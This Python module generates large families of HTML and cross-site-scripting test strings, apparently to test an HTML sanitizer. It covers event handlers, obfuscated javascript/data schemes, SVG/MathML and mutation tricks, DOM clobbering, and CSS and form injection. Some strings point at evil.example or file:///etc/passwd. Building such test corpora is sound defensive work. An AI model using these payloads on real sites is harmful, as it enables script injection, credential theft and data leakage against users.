"""Families of texts that try to run something: elements, handlers, addresses, foreign content, mutations.

Whatever runs sets `window.__pwned`. Each family gives its texts in the same order each time.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

RUN = "window.__pwned=1"
_ELEMENTS = (
    "a", "abbr", "address", "applet", "area", "article", "aside", "audio", "b", "base", "bdi", "bdo", "bgsound", "big",
    "blink", "blockquote", "body", "br", "button", "canvas", "caption", "center", "cite", "code", "col", "colgroup",
    "command", "content", "data", "datalist", "dd", "del", "details", "dfn", "dialog", "dir", "div", "dl", "dt",
    "element", "em", "embed", "fencedframe", "fieldset", "figcaption", "figure", "font", "footer", "form", "frame",
    "frameset", "h1", "h6", "head", "header", "hr", "html", "i", "iframe", "image", "img", "input", "ins", "isindex",
    "kbd", "keygen", "label", "layer", "legend", "li", "link", "listing", "main", "map", "mark", "marquee", "math",
    "menu", "menuitem", "meta", "meter", "multicol", "nav", "nextid", "nobr", "noembed", "noframes", "noscript",
    "object", "ol", "optgroup", "option", "output", "p", "param", "picture", "plaintext", "portal", "pre", "progress",
    "q", "rb", "rp", "rt", "rtc", "ruby", "s", "samp", "script", "search", "section", "select", "selectedcontent",
    "shadow", "slot", "small", "source", "spacer", "span", "strike", "strong", "style", "sub", "summary", "sup", "svg",
    "table", "tbody", "td", "template", "textarea", "tfoot", "th", "thead", "time", "title", "tr", "track", "tt", "u",
    "ul", "var", "video", "wbr", "xml", "xmp", "x-own", "feedpub-latest", "xss", "svg:script", "o:p", "?xml", "!x", "%x",
)  # fmt: skip
_HANDLERS = (
    "abort", "activate", "afterprint", "afterscriptexecute", "animationcancel", "animationend", "animationiteration",
    "animationstart", "auxclick", "beforecopy", "beforecut", "beforeinput", "beforematch", "beforepaste", "beforeprint",
    "beforescriptexecute", "beforetoggle", "beforeunload", "begin", "blur", "bounce", "cancel", "canplay",
    "canplaythrough", "change", "click", "close", "command", "contentvisibilityautostatechange", "contextlost",
    "contextmenu", "copy", "cuechange", "cut", "dblclick", "drag", "dragend", "dragenter", "dragleave", "dragover",
    "dragstart", "drop", "durationchange", "emptied", "end", "ended", "error", "finish", "focus", "focusin", "focusout",
    "formdata", "fullscreenchange", "gesturestart", "gotpointercapture", "hashchange", "help", "input", "invalid",
    "keydown", "keypress", "keyup", "languagechange", "load", "loadeddata", "loadedmetadata", "loadend", "loadstart",
    "lostpointercapture", "message", "mousedown", "mouseenter", "mouseleave", "mousemove", "mouseout", "mouseover",
    "mouseup", "mousewheel", "offline", "online", "orientationchange", "pagehide", "pagereveal", "pageshow", "paste",
    "pause", "play", "playing", "pointercancel", "pointerdown", "pointerenter", "pointerleave", "pointermove",
    "pointerout", "pointerover", "pointerrawupdate", "pointerup", "popstate", "progress", "propertychange",
    "ratechange", "readystatechange", "repeat", "reset", "resize", "scroll", "scrollend", "scrollsnapchange", "search",
    "securitypolicyviolation", "seeked", "seeking", "select", "selectionchange", "selectstart", "show",
    "slotchange", "stalled", "start", "storage", "submit", "suspend", "timeupdate", "toggle", "touchcancel", "touchend",
    "touchmove", "touchstart", "transitioncancel", "transitionend", "transitionrun", "transitionstart",
    "unhandledrejection", "unload", "volumechange", "waiting", "webkitanimationend", "webkitmouseforcechanged",
    "webkittransitionend", "wheel", "zoom",
)  # fmt: skip
_KEPT = ("a", "b", "p", "img", "td", "li", "ol", "pre", "table", "blockquote", "h3", "u")
"""Elements that may stay: what is in their attributes has to go all the more."""
_ADDRESSED = (
    ("a", "href"), ("a", "ping"), ("a", "xlink:href"), ("applet", "archive"), ("applet", "code"), ("applet", "codebase"),
    ("area", "href"), ("audio", "src"), ("base", "href"), ("bgsound", "src"), ("blockquote", "cite"),
    ("body", "background"), ("button", "formaction"), ("del", "cite"), ("embed", "code"), ("embed", "src"),
    ("form", "action"), ("frame", "longdesc"), ("frame", "src"), ("head", "profile"), ("html", "manifest"),
    ("iframe", "longdesc"), ("iframe", "src"), ("iframe", "srcdoc"), ("image", "href"), ("image", "src"),
    ("img", "dynsrc"), ("img", "longdesc"), ("img", "lowsrc"), ("img", "src"), ("img", "srcset"), ("img", "usemap"),
    ("input", "formaction"), ("input", "src"), ("ins", "cite"), ("layer", "src"), ("link", "href"), ("link", "imagesrcset"),
    ("menuitem", "icon"), ("meta", "content"), ("object", "classid"), ("object", "codebase"), ("object", "data"),
    ("param", "value"), ("portal", "src"), ("q", "cite"), ("script", "src"), ("script", "href"), ("source", "src"),
    ("source", "srcset"), ("svg", "href"), ("table", "background"), ("td", "background"), ("track", "src"),
    ("video", "poster"), ("video", "src"), ("xml", "src"),
)  # fmt: skip
_SCHEMES = ("javascript", "data", "vbscript", "livescript", "mocha", "jar", "blob", "file", "filesystem", "view-source",
            "about", "chrome", "resource", "feed", "mhtml", "ms-its", "intent", "wyciwyg", "x-javascript", "ws", "ftp")  # fmt: skip
_BROKEN = (
    "\t", "\n", "\r", "\r\n", "\x00", "\x01", "\x0b", "\x0c", "\x1f", "\x7f", "\x85", "\xa0", "\xad", "\u1680", "\u180e", "\u2000",
    "\u200b", "\u200c", "\u200e", "\u2028", "\u2029", "\u202f", "\u205f", "\u2060", "\u3000", "\ufeff", "\ufffd",
    "&Tab;", "&NewLine;", "&#9;", "&#10;", "&#13;", "&#x0A;", "&#0;", "&#1;", "&nbsp;", "&ZeroWidthSpace;", "&shy;", "&zwnj;",
    "/**/", "\\", "%09", "%0A", "%00", "<!-- -->", "&", "&#", ";",
)  # fmt: skip


def elements() -> Iterator[str]:
    """Every element with something to run in it, closed and not, in every case."""
    for name in _ELEMENTS:
        yield f"<{name} onload={RUN} onerror={RUN} src=x href=javascript:{RUN}>{RUN}</{name}>"
        yield f"<{name}><script>{RUN}</script>"
        yield f"</{name}><{name.swapcase()}/onfocus={RUN} autofocus tabindex=1 contenteditable style=x:expression({RUN})"
        yield f"<x><{name}><img src onerror={RUN}></{name}><{name}/><svg onload={RUN}>"


def handlers() -> Iterator[str]:
    """Every event on elements that may stay, and on one that may not, written in many ways."""
    ways = cycle(
        (
            ' on{0}="{1}"', " on{0}='{1}'", " on{0}={1}", "/on{0}={1}/", " ON{0}\n=\n'{1}'", "\x0con{0}\x0b=`{1}`", ' x="y"on{0}={1}',
            " on{0}&#61;{1}", '" on{0}="{1}', "' on{0}='{1}", " on{0}\x00={1}", " \x00on{0}={1}", " =on{0}={1}", ' on{0}="&#119;{1}"',
            " on{0} = {1} on{0}=x", " data-x='>' on{0}={1}", ' title="<!--" on{0}="{1}" x="-->"', " xml:on{0}={1}", " on{0}=\u2028{1}",
        )
    )  # fmt: skip
    for event in _HANDLERS:
        for name, way in zip((*_KEPT[:8], "svg", "body", "x-y"), ways, strict=False):
            yield f"<{name}{way.format(event, RUN)}>x</{name}>"


def addresses() -> Iterator[str]:
    """Every attribute that holds an address, with schemes that run or tell something."""
    schemes = cycle(_SCHEMES)
    for element, attribute in _ADDRESSED:
        for _ in range(6):
            scheme = next(schemes)
            yield f'<{element} {attribute}="{scheme}:{payload(scheme)}">x</{element}>'


def payload(scheme: str) -> str:
    """What stands behind a scheme."""
    if scheme == "data":
        return f"text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+#<script>{RUN}</script>"
    return "///etc/passwd" if scheme in {"file", "resource", "chrome"} else f"{RUN}//"


def schemes() -> Iterator[str]:
    """Schemes with something between their letters, in every case and encoding; bare, and as a link."""
    for scheme in ("javascript", "vbscript", "data"):
        run = payload(scheme)
        for broken in _BROKEN:
            half = len(scheme) // 2
            for text in (
                f"{broken}{scheme}:{run}",
                f"{scheme[:half]}{broken}{scheme[half:]}:{run}",
                f"{scheme}{broken}:{run}",
            ):
                yield f'<a href="{text}">read on</a>'
            yield f"{scheme.upper()}:{broken}{run}"
        for written in _spellings(scheme):
            yield f"<a href='{written}:{run}'>read on</a><img src={written}:{run}>"
            yield f"{written}:{run}"


def _spellings(scheme: str) -> Iterator[str]:
    yield from (
        scheme.title(),
        scheme.upper(),
        "".join(one.upper() if at % 2 else one for at, one in enumerate(scheme)),
    )
    yield "".join(f"&#{ord(one)};" for one in scheme)
    yield "".join(f"&#{ord(one):07}" for one in scheme)
    yield "".join(f"&#x{ord(one):x};" for one in scheme)
    yield "".join(f"&#X{ord(one):06X}" for one in scheme)
    yield "".join(f"%{ord(one):02x}" for one in scheme)
    yield "".join(f"%25{ord(one):02x}" for one in scheme)
    yield "".join(f"\\u{ord(one):04x}" for one in scheme)
    yield "".join(f"\\{ord(one):x} " for one in scheme)
    yield "".join(chr(0xFEE0 + ord(one)) for one in scheme)
    yield scheme.replace("s", "\u017f").replace("k", "\u212a")
    yield scheme.replace("a", "\u0430").replace("c", "\u0441")
    yield f"https:{scheme}"
    yield f"http&colon;//x/{scheme}"
    yield f"//{scheme}"
    yield f"&amp;#{ord(scheme[0])};{scheme[1:]}"


def addresses_in_disguise() -> Iterator[str]:
    """Addresses that look like those of another host, or like an http(s) one."""
    hosts = (
        "good.example@evil.example", "good.example:80@evil.example", "good.example%40evil.example", "evil.example\\@good.example",
        "evil.example#@good.example", "evil.example?@good.example", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1",
        "0177.0.0.1", "127.1", "localhost", "evil。example", "evil．example", "ⓔⓥⓘⓛ.example", "xn--80ak6aa92e.example",
        "аррӏе.example", "go\u200bod.example", "good.example\u202e", "a..example", ".example", "-.example", "ex ample", "exam\tple",
        "<script>", "%00", "%0d%0aSet-Cookie:x", "good.example:99999", "good.example:-1", "good.example:x", "", "#", "?", "*",
    )  # fmt: skip
    for host in hosts:
        for shape in ("http://{}/x", "https:\\\\{}\\x", "//{}", "http:/{}", "https:{}", "HTTP://{}/%2e%2e/"):
            yield f'<a href="{shape.format(host)}">x</a><img src="{shape.format(host)}">'
            yield shape.format(host)


def foreign() -> Iterator[str]:
    """SVG and MathML: their elements, and what changes its meaning where it goes into them or out of them."""
    parts = (
        "a", "animate", "animateMotion", "animateTransform", "circle", "clipPath", "defs", "desc", "discard", "ellipse", "feImage",
        "filter", "font-face-uri", "foreignObject", "g", "handler", "image", "line", "linearGradient", "listener", "marker", "mask",
        "metadata", "mpath", "path", "pattern", "script", "set", "style", "switch", "symbol", "text", "textPath", "title", "tref",
        "tspan", "unknown", "use", "view", "annotation", "annotation-xml", "maction", "malignmark", "merror", "mfrac", "mglyph",
        "mi", "mn", "mo", "mpadded", "mphantom", "mprescripts", "mroot", "ms", "mspace", "msqrt", "mstyle", "mtable", "mtd",
        "mtext", "mtr", "none", "semantics",
    )  # fmt: skip
    for name in parts:
        for root in ("svg", "math"):
            yield f"<{root}><{name} onload={RUN} onbegin={RUN} xlink:href=javascript:{RUN} href=javascript:{RUN}>x</{name}></{root}>"
            yield f"<{root}><{name}><style><img title='</style><img src onerror={RUN}>'>"
            yield f"<{root}></p><{name}><style><!--</style><img src onerror={RUN}>--></{name}></{root}>"
        yield f'<svg><{name} attributeName="href" values="javascript:{RUN}" to="javascript:{RUN}" dur="1s" begin="0s"/><a id=x>x</a>'
        yield f'<svg><{name} xlink:href="data:image/svg+xml,<svg id=x onload={RUN} xmlns=http://www.w3.org/2000/svg>#x"/></svg>'
        yield f'<math><{name} actiontype="statusline#http://x" encoding="text/html"><script>{RUN}</script></{name}></math>'


def mutations() -> Iterator[str]:
    """What is harmless when it is read once, and is not when it was written out and is read again."""
    raw = ("style", "script", "xmp", "iframe", "noembed", "noframes", "noscript", "plaintext", "textarea", "title", "template",
           "select", "svg", "math", "listing", "pre", "table", "form", "option", "frameset", "object", "video", "a", "p")  # fmt: skip
    inside = (
        "<img title='</{0}><img src onerror={1}>'>", "<p id='</{0}><img src=x onerror={1}>'>", "<!--</{0}><img src onerror={1}>-->",
        "<![CDATA[</{0}><img src onerror={1}>]]>", "<a title='--></{0}><img src onerror={1}>'>", "<b><{0}></b><img src onerror={1}>",
        "&lt;/{0}&gt;&lt;img src onerror={1}&gt;", "<{0}></{0}</{0}><img src onerror={1}>", "</{0} x='<img src onerror={1}>'>",
        '<x y="`</{0}>`><img src onerror={1}>">',
    )  # fmt: skip
    around = ("{}", "<math><mtext><table><mglyph>{}", "<svg><desc>{}", "<form><math><mtext></form><form><mglyph>{}",
              "<svg></p>{}", "<math><annotation-xml encoding='text/html'>{}", "<table><td>{}", "<select><keygen>{}")  # fmt: skip
    outer = cycle(around)
    for name in raw:
        for shape in inside:
            text = f"<{name}>{shape.format(name, RUN)}"
            yield from (next(outer).format(text) for _ in range(4))


def mis_nested() -> Iterator[str]:
    """Tags that cross, never end, end twice, or stand where they cannot."""
    names = (
        "b",
        "a",
        "p",
        "table",
        "td",
        "ul",
        "li",
        "h1",
        "form",
        "button",
        "select",
        "nobr",
        "svg",
        "pre",
        "template",
    )
    for first in names:
        for last in names:
            yield f"<{first}><{last}>x</{first}><img src onerror={RUN}></{last}><{first} onclick={RUN}>"
        yield f"<{first}" + f"<{first} x=" * 5 + f"onerror={RUN}>"
        yield f"</{first}></br></p></{first}/ onclick={RUN}><{first}/ /onclick={RUN}/><//{first}>"
        yield f'<{first} "onclick={RUN}"\' x="\'onclick={RUN}>x'


def comments() -> Iterator[str]:
    """Comments, CDATA, declarations and instructions that end early, late or never."""
    starts = ("<!--", "<!-->", "<!--->", "<!---", "<!", "<!x", "<!-", "<?", "<?xml ", "<?php ", "<%", "</ ", "</!", "<![CDATA[",
              "<![if IE]>", "<!--[if gte IE 4]>", "<!DOCTYPE x [", "<!ENTITY x '", "<!ELEMENT ", "<//", "<!--!>", "<comment>")  # fmt: skip
    ends = (
        "-->",
        "--!>",
        "->",
        ">",
        "]]>",
        "?>",
        "%>",
        "<![endif]-->",
        "",
        "--\n>",
        "-- >",
        "</comment>",
        "]>",
        "--><!--",
    )
    for start in starts:
        for end in ends:
            yield f"{start}<img src=x onerror={RUN}>{end}<script>{RUN}</script>"
        yield f"{start} x='{RUN}' --><svg onload={RUN}>"


def styles() -> Iterator[str]:
    """Styles that run, load, cover the page, or tell what is on it."""
    values = (
        "background:url(javascript:{0})", "background:url(https://evil.example/x)", "width:expression({0})", "behavior:url(#x)",
        "-moz-binding:url(https://evil.example/x#y)", "@import 'https://evil.example/x.css';", "xss:expr/**/ession({0})", "\\65xpression:x",
        "position:fixed;inset:0;z-index:9", "display:none", "list-style-image:url(javascript:{0})", "content:url(data:image/svg+xml,x)",
        "background:\\75rl(https://evil.example)", "}}*{{display:none", "font:x;src:url(//evil.example/f)", "--x:url(//evil.example)",
        "cursor:url(//evil.example/c),auto", "filter:url(#x)", "animation:x 1s", "/*</style><script>{0}</script>*/",
    )  # fmt: skip
    for value in values:
        text = value.format(RUN)
        yield f'<p style="{text}">x</p>'
        yield f"<style>*{{{text}}}</style>"
        yield f"<link rel=stylesheet href='data:text/css,{text}'>"
        yield f"<table background='{text}'><td style='{text}'>x"
        yield f"<svg><style>{{{text}}}</style></svg>"
        yield text


def clobbering() -> Iterator[str]:
    """Names and ids that stand for parts of the document, of scripts and of the pages themselves."""
    names = (
        "attributes", "body", "children", "cookie", "createElement", "documentElement", "forms", "getElementById", "head", "images",
        "innerHTML", "links", "location", "nodeName", "ownerDocument", "parentNode", "querySelector", "scripts", "self", "top",
        "window", "__proto__", "constructor", "toString", "content", "skip", "main", "found", "told", "q", "topic", "search", "more",
        "photos", "history", "sources", "feedpub", "customElements", "defaultView", "currentScript", "__pwned",
    )  # fmt: skip
    for name in names:
        yield f'<form id="{name}" name="{name}"><input name="{name}"><input id="attributes"></form>'
        yield f'<a id="{name}"></a><a id="{name}" name="x" href="javascript:{RUN}">x</a>'
        yield f'<img name="{name}" id="{name}" src=x><iframe name="{name}" srcdoc="<script>{RUN}</script>"></iframe>'
        yield f'<p id="{name}" class="{name}" for="{name}" aria-labelledby="{name}" form="{name}" slot="{name}" is="{name}">x'


def frames_and_forms() -> Iterator[str]:
    """What leads away, loads, asks, sends or repeats without a script."""
    for target in (
        f"javascript:{RUN}",
        "https://evil.example/",
        "//evil.example",
        "data:text/html,x",
        "/feeds.opml",
        "",
        "?x",
        "#",
    ):
        for shape in (
            '<meta http-equiv="refresh" content="0;url={}">', "<meta http-equiv=refresh content=0.1;URL='{}'>", '<base href="{}" target=x>',
            '<form action="{}" method=post><input name=x type=submit autofocus></form>', '<button form=q formaction="{}">x</button>',
            '<isindex action="{}">', '<iframe src="{}" srcdoc="{}"></iframe>', '<object data="{}" type="text/html"></object>',
            '<embed src="{}" allowscriptaccess=always>', '<link rel=import href="{}">', '<link rel=manifest href="{}">',
            '<script src="{}"></script>', '<script type=module>import "{}"</script>', '<script type=importmap>{{"{}":1}}</script>',
            '<img srcset="{} 2x, x 1x" sizes=1 src="{}">', '<picture><source srcset="{}"><img src="{}"></picture>',
            '<video poster="{}" src="{}" autoplay onerror=x></video>', '<applet code="{}"></applet>', '<portal src="{}"></portal>',
            '<a href="{}" ping="{}" target=_top download rel=opener>x</a>', '<area href="{}"><map name=x>', '<frameset><frame src="{}">',
            '<meta http-equiv="Content-Security-Policy" content="{}">', '<meta charset="utf-7">+ADw-script+AD4-{}+ADw-/script+AD4-',
            '<link rel="dns-prefetch preconnect prefetch preload prerender" href="{}">', '<html manifest="{}">', '<body background="{}">',
        ):  # fmt: skip
            yield shape.replace("{}", target).replace("{{", "{").replace("}}", "}")


FAMILIES = {
    one.__name__: one
    for one in (
        elements, handlers, addresses, schemes, addresses_in_disguise, foreign, mutations, mis_nested, comments, styles, clobbering,
        frames_and_forms,
    )
}  # fmt: skip
